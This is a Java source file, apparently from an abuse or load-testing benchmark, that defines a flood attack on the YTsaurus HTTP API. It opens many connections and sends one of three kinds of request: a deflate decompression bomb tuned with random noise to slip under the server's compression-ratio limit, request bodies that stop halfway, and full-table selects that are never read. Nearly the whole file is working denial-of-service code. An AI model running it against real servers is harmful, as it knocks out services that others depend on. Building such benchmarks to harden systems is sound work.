package io.cleave.bench.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.DeflaterOutputStream;

/// Requests to the port for YTsaurus' clients, one on each of many connections.
record YtFlood(int connections, Kind kind) implements Attack {
    private static final int ROW_BYTES = 60_000_000;
    private static final int PART_BYTES = 1_000_000;

    /// More than this share of the row must be noise, or the server refuses the ratio.
    private static final int NOISE_SHARE = 300;

    private static final int UNSENT_BYTES = 1_000;

    enum Kind {
        /// One row of 60 MB in a body of a few hundred KB.
        ROW_BOMB,
        /// Bodies that stop halfway.
        UNSENT_BODY,
        /// The whole table is selected, and nobody reads it.
        UNREAD_ROWS
    }

    @Override
    public void run(Target target, Endings endings, Deadline deadline)
            throws IOException, InterruptedException {
        new HttpFlood(target.yt(), connections, request()).run(endings, deadline);
    }

    private byte[] request() throws IOException {
        return switch (kind) {
            case ROW_BOMB -> {
                byte[] row = packedRow();
                yield put("Content-Encoding: deflate\r\n", row.length, row);
            }
            case UNSENT_BODY -> put("", UNSENT_BYTES, "{id=1u".getBytes(StandardCharsets.US_ASCII));
            case UNREAD_ROWS ->
                    """
                    GET /api/v4/select_rows?query=*%20from%20[//big]&enable_statistics=true HTTP/1.1\r
                    Host: localhost\r
                    X-YT-Output-Format: yson\r
                    \r
                    """
                            .getBytes(StandardCharsets.US_ASCII);
        };
    }

    private static byte[] put(String header, int bodyBytes, byte[] sent) throws IOException {
        var request = new ByteArrayOutputStream();
        request.write(
                """
                PUT /api/v4/insert_rows?path=//big HTTP/1.1\r
                Host: localhost\r
                X-YT-Input-Format: yson\r
                %sContent-Length: %d\r
                \r
                """
                        .formatted(header, bodyBytes)
                        .getBytes(StandardCharsets.US_ASCII));
        request.write(sent);
        return request.toByteArray();
    }

    private static byte[] packedRow() throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var out = new DeflaterOutputStream(packed)) {
            out.write("{id=1u;label=\"".getBytes(StandardCharsets.US_ASCII));
            int state = 1;
            for (int count = ROW_BYTES / NOISE_SHARE; count > 0; count--) {
                state = state * 1103515245 + 12345;
                out.write('a' + (state >>> 16) % 16);
            }
            byte[] part = "x".repeat(PART_BYTES).getBytes(StandardCharsets.US_ASCII);
            for (int written = 0; written < ROW_BYTES; written += part.length) {
                out.write(part);
            }
            out.write("\"};".getBytes(StandardCharsets.US_ASCII));
        }
        return packed.toByteArray();
    }
}
